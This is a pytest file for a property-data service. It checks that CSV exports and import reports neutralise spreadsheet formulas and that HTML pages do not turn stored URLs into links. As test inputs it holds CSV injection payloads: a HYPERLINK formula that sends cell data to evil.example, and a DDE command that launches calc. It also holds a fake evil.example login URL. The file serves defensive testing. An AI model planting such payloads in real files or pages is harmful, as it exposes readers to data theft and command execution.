"""What the service writes cannot attack its readers: no spreadsheet formulas in CSV, no planted links in HTML."""

from __future__ import annotations

import csv
import io

import pyogrio
import pytest
from support import auth_header, new_property

from api.db import write_transaction
from api.services import imports as imports_svc
from api.services import properties as props
from gis import csvcell
from gis.register import validate_property

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_neutralised(value) -> None:
    assert csvcell.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Town Hall", "'quoted", "", "a=b", 12, -5, None])
def test_other_cells_are_unchanged(value) -> None:
    assert csvcell.neutralise(value) == value


@pytest.fixture(scope="module")
def formula_owner(seeded, make_org):
    code = make_org()
    with write_transaction(seeded, "test-safe-outputs") as conn:
        for i, name in enumerate(FORMULAS[:4]):
            record = new_property(code, asset_ref=f"=F{i}", name=name, street="@street")
            props.create_record(conn, validate_property(record, creating=True))
    return code


def test_csv_export_has_no_executable_cell(client, formula_owner, tmp_path) -> None:
    response = client.get(f"/exports/properties.csv?owner={formula_owner}")
    assert response.status_code == 200, response.text
    path = tmp_path / "export.csv"
    path.write_bytes(response.content)
    frame = pyogrio.read_dataframe(path)  # read back by GDAL, as QGIS would
    assert len(frame) == 4
    cells = [str(v) for column in frame.columns for v in frame[column] if isinstance(v, str)]
    assert cells and not [c for c in cells if c.startswith(csvcell.FORMULA_STARTS)]
    assert sorted(n for n in frame["Asset name"] if n.startswith("'")) == sorted(
        "'" + f for f in FORMULAS[:4]
    )


def test_import_report_csv_has_no_executable_cell(seeded, make_org) -> None:
    code = make_org()
    source = "Asset Reference,Property Name,Post Code,GIA\r\n=cmd|' /C calc'!A0,Hall,WR1 2AB,=1+1\r\n"
    outcome = imports_svc.import_transparency(seeded, source.encode(), code, actor="test", dry_run=True)
    rows = list(csv.reader(io.StringIO(outcome.report_csv())))
    cells = [cell for row in rows for cell in row]
    assert any(cell.startswith("'=") for cell in cells), rows
    assert not [c for c in cells if c.startswith(csvcell.FORMULA_STARTS)]


def test_html_pages_link_only_links(client, make_org, make_key) -> None:
    org = make_org()
    headers = auth_header(make_key(org, "writer"))
    created = client.post(
        "/properties", json=new_property(org, name="https://evil.example/login"), headers=headers
    ).json()
    page = client.get(f"/collections/properties/items/{created['id']}?f=html").text
    assert "https://evil.example/login" in page
    assert 'href="https://evil.example' not in page
    listing = client.get(f"/collections/properties/items?owner={org}&f=html").text
    assert 'href="https://evil.example' not in listing
    assert f'href="items/{created["id"]}?f=html"' in listing  # the one link a feature row carries
